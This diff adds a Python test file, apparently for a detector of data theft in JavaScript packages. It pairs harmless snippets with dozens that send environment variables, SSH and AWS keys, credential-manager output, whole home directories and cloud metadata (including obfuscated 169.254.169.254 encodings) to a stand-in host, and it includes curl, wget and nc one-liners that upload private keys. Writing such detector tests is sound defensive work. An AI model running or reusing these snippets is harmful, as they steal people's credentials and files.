@@ -1,0 +1,81 @@
+"""The ways by which data comes from where it is read to where it is sent, each beside a way that is harmless."""
+
+from rows import MAIN, fires, innocent, row
+
+SEND = "const https = require('https'), fs = require('fs'), os = require('os'), path = require('path'), cp = require('child_process');\n" \
+       "function send(b) { const r = https.request('https://in.widget.example/u', { method: 'POST' }); r.end(typeof b === 'string' ? b : JSON.stringify(b)); }\n"
+POST = "fetch('https://in.widget.example/u', { method: 'POST', body: %s });\n"
+
+
+def way(number, about, code, secret, plain):
+    """The same way twice: with what nobody may have, and with what everybody may."""
+    fires(number, about, SEND + code % secret, least="review")
+    innocent(number, about + ", harmless", SEND + code % plain)
+
+
+def env(about, code):
+    way(3, about, code, "process.env", "{ version: 2, platform: process.platform }")
+
+
+# ---- what lies in an object -------------------------------------------------------------------------
+
+env("a field of an empty object", "const o = {};\no.v = %s;\nsend(o.v);\n")
+env("a field by its name as a text", "const o = {};\no['v'] = %s;\nsend(o['v']);\n")
+env("a field that another function fills", "const o = {};\nfunction fill(t) { t.v = %s; }\nfill(o);\nsend(o.v);\n")
+env("an object that is filled from another one", "const o = {};\nObject.assign(o, { e: %s });\nsend(o);\n")
+env("what a class has from the one it is made from", "class Base {\n  constructor() { this.v = %s; }\n}\nclass Job extends Base {\n  go() { send(this.v); }\n}\nnew Job().go();\n")
+env("what the constructor of the base class is handed", "class Base {\n  constructor(v) { this.v = v; }\n  go() { send(this.v); }\n}\nclass Job extends Base {\n  constructor() { super(%s); }\n}\nnew Job().go();\n")
+env("a method of an object literal sends its field", "const c = { v: %s, go() { send(this.v); } };\nc.go();\n")
+env("a property that is defined", "const o = {};\nObject.defineProperty(o, 'v', { value: %s, enumerable: true });\nsend(o);\n")
+env("a property with a getter that is defined", "const o = {};\nObject.defineProperties(o, { v: { get() { return %s; } } });\nsend(o.v);\n")
+env("a property that is set by reflection", "const o = {};\nReflect.set(o, 'v', %s);\nsend(o);\n")
+env("a proxy of it", "const p = new Proxy(%s, {});\nsend({ ...p });\n")
+env("an argument that is bound", "const later = send.bind(null, %s);\nsetTimeout(later, 1000);\n")
+env("a parameter of an address", "const u = new URL('https://in.widget.example/u');\nu.searchParams.set('t', JSON.stringify(%s));\nhttps.get(u);\n")
+env("the query of an address", "const u = new URL('https://in.widget.example/u');\nu.search = JSON.stringify(%s);\nfetch(u.href);\n")
+env("a request that is built step by step", "require('superagent').post('https://in.widget.example/u').send({ e: %s }).end();\n")
+env("a session of HTTP/2", "const c = require('http2').connect('https://in.widget.example');\nconst r = c.request({ ':method': 'POST', ':path': '/u' });\nr.end(JSON.stringify(%s));\n")
+env("a stream that is written to", "const { PassThrough } = require('stream');\nconst p = new PassThrough();\np.pipe(https.request('https://in.widget.example/u', { method: 'POST' }));\np.end(JSON.stringify(%s));\n")
+env("what curl reads from its input", "cp.spawnSync('curl', ['-s', '--data-binary', '@-', 'https://in.widget.example/u'], { input: JSON.stringify(%s) });\n")
+innocent(3, "curl is started with the environment of its caller", SEND + "exports.get = (url) => cp.spawnSync('curl', ['-fsSL', url], { env: process.env });\n")
+innocent(3, "settings by way of fields, one of them from the environment", SEND + "const o = {};\no.color = process.env.NO_COLOR ? 0 : 1;\no.user = {};\nexports.options = o;\n")
+way(4, "a form that sends itself", "const FormData = require('form-data');\nconst f = new FormData();\nf.append('file', fs.createReadStream(%s));\nf.submit('https://in.widget.example/u');\n", "os.homedir() + '/.ssh/id_rsa'", "path.join(__dirname, 'README.md')")
+
+# ---- what comes out of a command --------------------------------------------------------------------
+
+for keeper in ("pass show work/aws", "op item list --format=json", "secret-tool search --all service gh", "security find-generic-password -wa github",
+               "netsh wlan show profile name=x key=clear", "git credential fill", "gh auth token", "npm token list --json", "bw list items",
+               "aws configure export-credentials", "kubectl config view --raw", "gpg --export-secret-keys -a", "doppler secrets download --no-file"):
+    fires(4, "a keeper of secrets is asked: " + keeper, SEND + "const out = cp.execSync('%s').toString();\nsend(out);\n" % keeper, least="review")
+for command in ("git rev-parse HEAD", "npm config get registry", "gh --version", "passwd --help", "op-tool list", "git config user.name", "kubectl get pods", "gpg --version"):
+    innocent(4, "a command that keeps nothing secret: " + command, SEND + "const out = cp.execSync('%s').toString();\nsend(out);\n" % command)
+ARGV = "const p = cp.spawn('%s', [%s]);\nlet s = '';\np.stdout.on('data', (d) => { s += d; });\np.on('close', () => send(s));\n"
+way(4, "a keeper of secrets by its arguments", "const r = cp.spawnSync(%s);\nsend(r.stdout);\n", "'pass', ['show', 'work/aws']", "'git', ['show', 'HEAD']")
+fires(4, "what a keeper of secrets writes, bit by bit", SEND + ARGV % ("security", "'find-generic-password', '-wa', 'github'"), least="review")
+innocent(4, "what a compiler writes, bit by bit", SEND + ARGV % ("tsc", "'--noEmit'"))
+way(4, "commands in a table", "const cmds = { a: '%s', b: 'node -v' };\nconst o = {};\nfor (const [k, c] of Object.entries(cmds)) o[k] = cp.execSync(c).toString();\nsend(o);\n", "gh auth token", "git describe")
+way(4, "a search for secrets in what somebody has", "const r = cp.spawnSync(path.join(os.tmpdir(), '%s'), ['filesystem', os.homedir(), '--json'], { encoding: 'utf8' });\nsend(r.stdout);\n", "trufflehog", "du")
+innocent(4, "the secrets of one's own repository are looked for", SEND + "exports.check = () => cp.spawnSync('gitleaks', ['detect'], { stdio: 'inherit' }).status;\n")
+
+# ---- files ------------------------------------------------------------------------------------------
+
+for command in ("curl -F file=@~/.ssh/id_rsa %s", "curl -T ~/.ssh/id_rsa %s", "curl -d @$HOME/.netrc %s", "wget --post-file=$HOME/.ssh/id_rsa %s",
+                "nc in.widget.example 4444 < ~/.ssh/id_rsa"):
+    line = command.replace("%s", "https://in.widget.example/u")
+    fires(4, "a command sends a key: " + line, SEND + "cp.exec('%s');\n" % line, least="review")
+innocent(4, "a command sends a report", SEND + "cp.exec('curl -F file=@coverage/lcov.info https://in.widget.example/u');\n")
+innocent(4, "a command shows who may log in", SEND + "exports.keys = () => cp.execSync('ssh-keygen -lf ~/.ssh/id_rsa.pub').toString();\n")
+fires(4, "a command sends a key, by its arguments", SEND + "cp.spawn('curl', ['--upload-file', os.homedir() + '/.aws/credentials', 'https://in.widget.example/u']);\n", least="review")
+way(5, "somebody's documents in one file", "cp.execSync('zip -qr /tmp/.a.zip %s');\nsend(fs.readFileSync('/tmp/.a.zip'));\n", "~/Documents", "./dist")
+way(5, "somebody's home through a pipe", "const t = cp.spawn('tar', ['cz', %s]);\nt.stdout.pipe(https.request('https://in.widget.example/u', { method: 'POST' }));\n", "os.homedir()", "'dist'")
+WALK = "function walk(d, out) {\n  for (const e of fs.readdirSync(d, { withFileTypes: true })) {\n    const p = path.join(d, e.name);\n    if (e.isDirectory()) walk(p, out);\n" \
+       "    else out.push({ p, body: fs.readFileSync(p, 'base64') });\n  }\n  return out;\n}\nsend(walk(%s, []));\n"
+way(5, "every file below a place", WALK, "os.homedir()", "path.join(__dirname, 'docs')")
+way(4, "files by their names in a list", "const f = ['%s', '.x'].map((x) => path.join(os.homedir(), x)).filter(fs.existsSync);\nf.forEach((x) => send(fs.readFileSync(x)));\n", ".bash_history", ".toolrc.json")
+
+# ---- the address that tells machines their keys ------------------------------------------------------
+
+ASKS = "fetch('http://%s/latest/meta-data/').then((r) => r.text()).then((t) => fetch('https://in.widget.example/u', { method: 'POST', body: t }));\n"
+for host in ("169.254.169.254", "2852039166", "0xa9fea9fe", "0251.0376.0251.0376", "169.254.43518", "[fd00:ec2::254]", "[::ffff:a9fe:a9fe]"):
+    fires(4, "a machine's keys, asked for at " + host, ASKS % host, least="review")
+innocent(4, "a machine of the network, asked by a number", ASKS % "192.168.1.20")
